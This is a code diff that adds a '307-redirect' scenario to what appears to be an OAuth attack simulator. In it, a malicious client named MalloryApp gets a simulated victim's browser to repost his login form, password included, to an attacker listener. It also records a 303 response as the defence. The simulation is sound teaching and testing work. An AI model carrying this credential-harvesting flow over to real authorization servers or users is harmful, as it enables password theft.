@@ -116,6 +116,18 @@ public:
     // From here on, the first refusal is the attack's.
     void attackBegins() { m_attackStarted = true; }
 
+    // A defence that refuses nothing stopped the attack — how a party answered (the 303 that keeps a form
+    // where it was posted): the run's "refusal", if it is the first since the attack began.
+    void defendedBy(const QString &party, int status, const QString &check, const QString &rule)
+    {
+        if (!m_attackStarted || !outcome.stoppedBy.isEmpty())
+            return;
+        outcome.stoppedBy = party;
+        outcome.status = status;
+        outcome.check = check;
+        outcome.rule = rule;
+    }
+
     void fail(const QString &why)
     {
         if (outcome.failure.isEmpty())
@@ -146,8 +158,8 @@ public:
         return event;
     }
 
-    // A request that reached Mallory's listener (John's browser followed a redirect there).
-    void recordListener(const QUrl &url)
+    // A request that reached Mallory's listener (John's browser followed a redirect there); `body`: a POST's.
+    void recordListener(const QUrl &url, const QByteArray &body = {})
     {
         TraceEvent request;
         request.kind = TraceKind::Request;
@@ -157,10 +169,13 @@ public:
         request.channel = TraceChannel::FrontChannel;
         request.from = QStringLiteral("Browser");
         request.to = malloryListener();
-        request.method = "GET";
+        request.method = body.isEmpty() ? QByteArray("GET") : QByteArray("POST");
         request.url = url;
+        request.requestBody = body;
         request.status = 200;
-        request.summary = QStringLiteral("GET %1 (John's redirect, with his code)").arg(url.path());
+        request.summary = body.isEmpty()
+            ? QStringLiteral("GET %1 (John's redirect, with his code)").arg(url.path())
+            : QStringLiteral("POST %1 (John's login form again: his user name and password)").arg(url.path());
         TraceEvent response = request;
         response.kind = TraceKind::Response;
         response.from = malloryListener();
@@ -567,7 +582,7 @@ private:
             return;
         for (const BankDecision &decision : exchange.decisions) {
             if (decision.isSkippedCheck()) {
-                const auto spec = findCheck(decision.check);
+                const auto spec = findDefence(decision.check);
                 outcome.skipped.append({ bankPartyFor(exchange.request.path()), decision.check,
                     spec ? QStringLiteral("%1 (%2)").arg(spec->rule, spec->section) : QString(),
                     decision.expected, decision.received });
@@ -579,7 +594,7 @@ private:
             outcome.status = exchange.response.status;
             outcome.error = decision.refusal->error();
             outcome.check = decision.check;
-            if (const auto spec = findCheck(decision.check))
+            if (const auto spec = findDefence(decision.check))
                 outcome.rule = QStringLiteral("%1 (%2)").arg(spec->rule, spec->section);
             else
                 outcome.rule = decision.refusal->rfc();
@@ -982,6 +997,82 @@ void playMixUp(Run &run)
     run.malloryHolds(
         run.mallorysBank, stolen, QStringLiteral("John's tokens from a code CoolLoan sent to MalloryBank"));
 }
+
+void playRedirect307(Run &run)
+{
+    // MalloryApp, a registered client like any other; its callback is Mallory's listener.
+    MalloryListener app;
+    QString error;
+    if (!app.listen(&error)) {
+        run.fail(QStringLiteral("MalloryApp's callback could not listen: %1").arg(error));
+        return;
+    }
+    app.onRequest = [&run](const QUrl &url) { run.recordListener(url); };
+    app.onPost = [&run](const QUrl &url, const QByteArray &body) { run.recordListener(url, body); };
+    const QString callback = app.url(QStringLiteral("/callback")).toString();
+    const QString scope = QStringLiteral("openid profile");
+    const RegisteredClient mallorysApp = run.registerClient(
+        QStringLiteral("MalloryApp"), { callback }, scope.split(QLatin1Char(' ')), false);
+    if (!run.ok())
+        return;
+
+    // John tried MalloryApp once: he logged in and consented (remembered).
+    WebAnswer last;
+    QUrl first = run.authorize(
+        run.authorizationUrl(mallorysApp.clientId, callback, scope, pkce::generateVerifier()), &last);
+    if (first.isEmpty()) {
+        run.fail(QStringLiteral("John's first MalloryApp login got no redirect (%1)").arg(last.status));
+        return;
+    }
+    run.browser.get(first);
+
+    // MalloryApp asks for a fresh login (prompt=login): John types his password into eddy's form.
+    run.note(malloryListener(), QStringLiteral("MalloryApp sends John to log in again (prompt=login)"));
+    run.attackBegins();
+    WebAnswer page = run.browser.get(run.authorizationUrl(mallorysApp.clientId, callback, scope,
+        pkce::generateVerifier(), { { QStringLiteral("prompt"), QStringLiteral("login") } }));
+    for (int hop = 0; hop < 5 && page.isRedirect() && run.isBankUrl(page.location()); ++hop)
+        page = run.browser.get(page.location()); // eddy's 303 to its login page
+    const auto form = findPageForm(page.body, QStringLiteral("/login"));
+    if (!form) {
+        run.fail(QStringLiteral("eddy showed no login form (%1)").arg(page.status));
+        return;
+    }
+    Fields fields = form->hidden;
+    fields.append({ QStringLiteral("username"), QString::fromLatin1(SeedUsername) });
+    fields.append({ QStringLiteral("password"), QString::fromLatin1(SeedPassword) });
+    const WebAnswer answer = run.browser.postForm(page.url.resolved(QUrl(form->action)), fields);
+    if (!answer.isRedirect() || answer.location().port() != QUrl(callback).port()) {
+        run.fail(QStringLiteral("eddy's answer to the login form was %1, not a redirect to MalloryApp")
+                     .arg(answer.status));
+        return;
+    }
+    if (answer.status == 307 || answer.status == 308) {
+        // A browser keeps method and body on a 307 (RFC 9110 §15.4.8): the login form goes to MalloryApp.
+        run.browser.postForm(answer.location(), fields);
+    } else {
+        run.browser.get(answer.location());
+        if (answer.status == 303) {
+            const auto seeOther = findDefence(QStringLiteral("interaction.see_other"));
+            run.defendedBy(QStringLiteral("eddy"), 303, seeOther->id,
+                QStringLiteral("%1 (%2)").arg(seeOther->rule, seeOther->section));
+        }
+    }
+    const QString password = QString::fromLatin1(SeedPassword);
+    for (const QByteArray &body : app.postedBodies()) {
+        if (QUrlQuery(QString::fromUtf8(body)).queryItemValue(QStringLiteral("password"), QUrl::FullyDecoded)
+            == password)
+            run.outcome.passwordAtMallory = true;
+    }
+    if (!run.outcome.passwordAtMallory) {
+        run.note(malloryListener(), QStringLiteral("only a code arrived: no password"));
+        return;
+    }
+    run.outcome.succeeded = true;
+    run.outcome.obtained
+        = QStringLiteral("John's user name and password, posted to MalloryApp by his own browser");
+    run.note(malloryListener(), QStringLiteral("Mallory now holds %1").arg(run.outcome.obtained));
+}
 } // namespace
 
 QJsonObject AttackOutcome::toJson() const
@@ -1023,6 +1114,8 @@ AttackOutcome runAttack(const Scenario &scenario, const QList<Weakness> &weaknes
             playLoginCsrf(run);
         else if (scenario.id == QLatin1String("port-squatting"))
             playPortSquatting(run);
+        else if (scenario.id == QLatin1String("307-redirect"))
+            playRedirect307(run);
         else if (scenario.id == QLatin1String("mix-up"))
             playMixUp(run);
         else
